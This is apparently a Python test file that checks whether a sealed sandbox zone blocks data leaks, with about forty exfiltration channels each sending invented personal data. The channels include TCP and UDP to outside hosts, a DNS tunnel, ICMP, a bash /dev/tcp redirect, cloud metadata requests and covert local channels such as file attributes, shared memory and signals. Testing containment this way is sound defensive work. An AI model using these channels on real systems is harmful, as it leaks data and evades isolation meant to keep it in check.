"""Forty ways out of a sealed zone, each in the fewest lines that take it. What they carry is invented."""

from __future__ import annotations

import ctypes
import ftplib
import http.client
import os
import signal
import smtplib
import socket
import sqlite3
import struct
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import psycopg

from tests.custody.wall import places
from tests.custody.wall.places import METADATA, OUT4, OUT4_OTHER, OUT6, WITNESS

CARRIED = b"family=Berg given=Kai born=2001-02-03"
PATIENCE = 1.0
INSIDE, OUTSIDE = "inside", "outside"

_libc = ctypes.CDLL(None, use_errno=True)


class Way(NamedTuple):
    """``held_by`` are the halves of the wall that each stop it alone; ``seen`` is the observer that it would reach."""

    go: Callable[[], object]
    seen: str
    held_by: frozenset[str]


WAYS: dict[str, Way] = {}


def way(name: str, seen: str, *held_by: str) -> Callable[[Callable[[], object]], Callable[[], object]]:
    def add(go: Callable[[], object]) -> Callable[[], object]:
        assert name not in WAYS
        WAYS[name] = Way(go, seen, frozenset(held_by))
        return go

    return add


def call(host: str, port: int, family: int = socket.AF_INET, protocol: int = 0) -> None:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(PATIENCE)
        one.connect((host, port))
        one.sendall(CARRIED)


def throw(host: str, port: int, family: int = socket.AF_INET, payload: bytes = CARRIED) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(payload, (host, port))


def question() -> bytes:
    """A DNS question whose labels carry what is stolen."""
    labels = b"".join(bytes([len(one)]) + one for one in (CARRIED[:30].hex().encode()[:60], b"tunnel", b"example"))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data + len(data) % 2 * b'0') // 2}H", data + len(data) % 2 * b"\0"))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def echo() -> bytes:
    body = struct.pack("!BBHHH", 8, 0, 0, 7, 7) + CARRIED
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


BOTH = (INSIDE, OUTSIDE)
# -- to the outside, by TCP
way("TCP to the outside", "cable", *BOTH)(lambda: call(OUT4, 443))
way("TCP over IPv6", "cable", *BOTH)(lambda: call(OUT6, 443, socket.AF_INET6))
way("TCP to an IPv4 address written as IPv6", "cable", *BOTH)(lambda: call(f"::ffff:{OUT4}", 443, socket.AF_INET6))
way("the witness's port at another address", "cable", OUTSIDE)(lambda: call(OUT4_OTHER, WITNESS))
way("another port of the witness", "cable", *BOTH)(lambda: call(OUT4, 22))
way("multipath TCP", "cable", *BOTH)(lambda: call(OUT4, 443, protocol=262))
way("DNS tunnel over TCP", "cable", *BOTH)(lambda: call(OUT4, 53))
way("the cloud's metadata service", "cable", *BOTH)(
    lambda: http.client.HTTPConnection(METADATA, timeout=PATIENCE).request("GET", "/latest/user-data")
)
way("mail by SMTP", "cable", *BOTH)(lambda: smtplib.SMTP(OUT4, 25, timeout=PATIENCE))
way("FTP", "cable", *BOTH)(lambda: ftplib.FTP().connect(OUT4, 21, timeout=PATIENCE))


@way("data in the first packet of TCP", "cable", *BOTH)
def fast_open() -> None:
    with socket.socket() as one:
        one.setblocking(False)
        one.sendto(CARRIED, socket.MSG_FASTOPEN, (OUT4, 443))


@way("HTTP through a proxy that the environment names", "cable", *BOTH)
def proxy() -> None:
    through = urllib.request.ProxyHandler({"http": f"http://{OUT4}:3128"})
    urllib.request.build_opener(through).open("http://example.org/", timeout=PATIENCE)


# -- to the outside, by anything else
way("UDP", "cable", *BOTH)(lambda: throw(OUT4, 9999))
way("UDP over IPv6", "cable", *BOTH)(lambda: throw(OUT6, 9999, socket.AF_INET6))
way("DNS tunnel in labels", "cable", *BOTH)(lambda: throw(OUT4, 53, payload=question()))
way("NTP", "cable", *BOTH)(lambda: throw(OUT4, 123, payload=b"\x23" + bytes(39) + CARRIED[:8]))
way("broadcast", "cable", *BOTH)(lambda: throw(places.BROADCAST, 9999))
way("multicast", "cable", *BOTH)(lambda: throw(places.MULTICAST, 9999))
way("the system's resolver", "cable", *BOTH)(lambda: socket.getaddrinfo(f"{CARRIED[:20].hex()}.tunnel.example", 80))


@way("ping", "cable", *BOTH)
def ping() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.sendto(echo(), (OUT4, 0))


@way("raw IP", "cable", *BOTH)
def raw() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(echo(), (OUT4, 0))


@way("frames without IP", "cable", *BOTH)
def frames() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind(("zone0", 0x88B5))  # the ether type for experiments
        one.send(b"\xff" * 6 + b"\x02" + bytes(5) + b"\x88\xb5" + CARRIED)


# -- by another program
def spawned(*words: str) -> None:
    subprocess.run(words, timeout=3, check=True, capture_output=True)


way("a shell", "cable", *BOTH)(lambda: spawned("bash", "-c", f"echo stolen > /dev/tcp/{OUT4}/443"))
way("another Python", "cable", *BOTH)(
    lambda: spawned(sys.executable, "-I", "-c", f"import socket; socket.create_connection(('{OUT4}', 443), 1)")
)


@way("a forked child", "cable", *BOTH)
def child() -> None:
    if not (pid := os.fork()):
        try:
            call(OUT4, 443)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


# -- to the open zone on the same machine
way("a port of the open zone", "loopback", *BOTH)(lambda: call("127.0.0.1", 8030))
way("a port of the open zone over IPv6", "loopback", *BOTH)(lambda: call("::1", 8030, socket.AF_INET6))
way("the open zone's bus", "loopback", *BOTH)(lambda: call("127.0.0.1", 4222))
way("a UDP port of the machine", "loopback", *BOTH)(lambda: throw("127.0.0.53", 53, payload=question()))
way("the open zone's PostgreSQL", "loopback", *BOTH)(
    lambda: psycopg.connect("postgresql://kotinos@127.0.0.1:5432/journal?connect_timeout=2")
)


@way("an abstract socket", "abstract socket", INSIDE)
def abstract() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendto(CARRIED, places.ABSTRACT)


@way("a socket in a folder", "socket", INSIDE)
def in_folder() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.connect(str(places.open_zone() / "bus"))


@way("the machine's log", "log socket", INSIDE)
def syslog() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendto(b"<13>" + CARRIED, str(places.open_zone() / "log"))


@way("netlink between programs", "netlink", INSIDE)
def netlink() -> None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2) as one:  # NETLINK_USERSOCK
        one.sendto(CARRIED, (places.NETLINK_PORT, 0))


# -- by files
def there(name: str) -> Path:
    return places.open_zone() / name


def through_a_link() -> None:
    (places.zone() / "vetting" / "out" / "led-astray").write_bytes(CARRIED)


way("a file of the open zone", "files", INSIDE)(lambda: there("file").write_bytes(CARRIED))
way("more of a file that is there", "files", INSIDE)(lambda: there("there").open("ab").write(CARRIED))
way("the machine's temporary folder", "files", INSIDE)(lambda: Path("/tmp/kotinos-way-out").write_bytes(CARRIED))
way("memory that looks like a file", "files", INSIDE)(lambda: Path("/dev/shm/kotinos-way-out").write_bytes(CARRIED))
way("a link in a spool that leads out", "files", INSIDE)(through_a_link)
way("a hard link", "files", INSIDE)(lambda: there("linked").hardlink_to(places.zone() / "zone.json"))
way("moving a file out", "files", INSIDE)(lambda: (places.zone() / "stolen").rename(there("moved")))
way("a name that says it", "files", INSIDE)(lambda: there(CARRIED.hex()).mkdir())
way("a symbolic link that says it", "files", INSIDE)(lambda: there("said").symlink_to(CARRIED.decode()))
way("an attribute of a file", "files", INSIDE)(lambda: os.setxattr(there("there"), "user.way", CARRIED))
way("a copy of the database by SQL", "files", INSIDE)(
    lambda: sqlite3.connect(places.zone() / "sealed.db").execute("VACUUM INTO ?", (str(there("copy.db")),))
)
way("a named pipe", "pipe", INSIDE)(lambda: os.write(os.open(there("pipe"), os.O_WRONLY | os.O_NONBLOCK), CARRIED))
way("somebody's terminal", "terminal", INSIDE)(
    lambda: os.write(os.open(os.environ["TERMINAL"], os.O_WRONLY | os.O_NOCTTY), CARRIED)
)


# -- by memory and signals
def called(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


way("shared memory", "shared memory", INSIDE)(lambda: called(_libc.shmget(places.KEY, 4096, 0o1666)))
way("a message queue", "message queue", INSIDE)(lambda: called(_libc.msgget(places.KEY, 0o1666)))
way("signals", "signals", INSIDE)(lambda: os.kill(int(os.environ["OBSERVER"]), signal.SIGUSR1))


@way("a queue of POSIX", "queue", INSIDE)
def posix_queue() -> None:
    queue = called(_libc.mq_open(places.QUEUE, os.O_WRONLY | os.O_NONBLOCK))
    called(_libc.mq_send(queue, CARRIED, len(CARRIED), 0))
